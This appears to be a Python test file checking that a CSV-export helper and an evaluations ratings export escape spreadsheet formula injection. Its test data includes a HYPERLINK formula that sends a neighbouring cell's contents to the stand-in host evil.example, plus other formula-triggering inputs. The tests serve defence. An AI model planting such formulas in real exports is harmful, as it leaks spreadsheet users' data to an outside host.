"""Every CSV export escapes cells a spreadsheet would run as formulas, through one function."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace
from typing import Any

import pytest

from engage.csvcells import safe_cell
from engage.evaluations.models import CommentStatus, Rating, Subject
from engage.evaluations.results import export_csv

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A2,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (PAYLOAD, "'" + PAYLOAD),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("-3", "-3"),  # a number stays a number
        ("+8613800138000", "+8613800138000"),
        ("王芳", "王芳"),
        (None, ""),
    ],
)
def test_safe_cell_defuses_formulas_and_keeps_numbers(value: Any, written: str) -> None:
    """S8: one CSV-escaping function for every export."""
    assert safe_cell(value) == written


def test_the_evaluations_export_escapes_names_units_and_comments() -> None:
    """S8: ratings.csv wrote subject name, unit and approved comment raw."""
    subject = Subject(id=1, name=PAYLOAD, unit="@SUM(1+1)")
    rating = Rating(
        subject_id=1,
        via="web",
        status="counted",
        scores=[5],
        comment=PAYLOAD,
        comment_status=CommentStatus.APPROVED.value,
    )
    results: Any = SimpleNamespace(subjects=[SimpleNamespace(subject=subject)])
    rows = list(csv.reader(io.StringIO(export_csv(results, [rating]))))
    assert rows[1][0] == "'" + PAYLOAD and rows[1][1] == "'@SUM(1+1)" and rows[1][-1] == "'" + PAYLOAD
